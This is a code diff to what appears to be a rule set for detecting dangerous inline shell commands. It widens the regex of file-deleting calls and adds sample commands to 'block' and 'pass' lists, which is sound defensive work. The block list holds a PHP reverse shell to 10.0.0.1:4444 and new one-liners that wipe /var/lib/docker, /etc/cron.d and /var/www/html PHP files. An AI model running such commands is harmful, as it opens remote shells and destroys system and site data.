@@ -8,7 +8,7 @@
 export const STR = String.raw`(?:'([^'\\]*)'|"([^"\\]*)"|\`([^\`\\$]*)\`)`;
 
 /** Calls whose first string argument is a path they delete. */
-export const DELETE_CALL_NAMES = String.raw`shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|os\.removedirs|Path\(\s*${STR}\s*\)\.(?:unlink|rmdir)|rmSync|rmdirSync|unlinkSync|rm|rmdir|unlink|remove_dir_all|remove_file|FileUtils\.rm_rf|FileUtils\.rm_r|FileUtils\.rm|FileUtils\.remove_dir|FileUtils\.remove_entry|File\.delete|File\.rm_rf!?|File\.rm!?|Deno\.remove|Deno\.removeSync|rmtree|remove_tree|fs\.promises\.rm|rimraf(?:\.sync)?|os\.remove`;
+export const DELETE_CALL_NAMES = String.raw`shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|os\.removedirs|Path\(\s*${STR}\s*\)\.(?:unlink|rmdir)|rmSync|rmdirSync|unlinkSync|rm|rmdir|unlink|remove_dir_all|remove_file|FileUtils\.rm_rf|FileUtils\.rm_r|FileUtils\.rm|FileUtils\.remove_dir|FileUtils\.remove_entry|File\.delete|File\.rm_rf!?|File\.rm!?|Deno\.remove|Deno\.removeSync|rmtree|remove_tree|fs\.promises\.rm|rimraf(?:\.sync)?|os\.remove|array_map\(\s*['"]unlink['"]\s*,|os\.truncate\s*\(\s*${STR}\s*,\s*0\s*\)`;
 
 /** Calls whose first string argument is a path they write, change or move away. */
 export const WRITE_CALL_NAMES = String.raw`open\s*\(\s*${STR}\s*,\s*['"][wa]|writeFileSync|appendFileSync|writeFile|appendFile|File\.write|File\.open\s*\(\s*${STR}\s*,\s*['"][wa]|file_put_contents|os\.chmod|os\.chown|os\.rename|os\.replace|shutil\.move|shutil\.copy(?:file|2)?\s*\(\s*${STR}\s*,|chmodSync|chownSync|renameSync|copyFileSync\s*\(\s*${STR}\s*,|Deno\.writeTextFile|Deno\.writeFile|Bun\.write|File\.chmod|chmod|chown|rename|symlink|symlinkSync|os\.symlink|write_text|write_bytes`;
@@ -84,6 +84,9 @@ export const INLINE_EXAMPLES = {
     "awk '{system($0)}' commands.txt",
     'php -r \'$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
     "python manage.py shell -c 'from shop.models import Order; Order.objects.all().delete()'",
+    "perl -e 'use File::Path; rmtree(\"/var/lib/docker\")'",
+    "perl -e 'unlink glob \"/etc/cron.d/*\"'",
+    'php -r \'array_map("unlink", glob("/var/www/html/*.php"));\'',
   ],
   pass: [
     "python3 -c \"import shutil; shutil.rmtree('build')\"",
@@ -93,5 +96,7 @@ export const INLINE_EXAMPLES = {
     "php -r 'echo phpversion();'",
     "python3 -c \"import os; print(os.environ.get('HOME'))\"",
     "ruby -e 'puts Dir.home'",
+    "perl -e 'use File::Path; rmtree(\"build\")'",
+    'php -r \'array_map("unlink", glob("cache/*.tmp"));\'',
   ],
 };
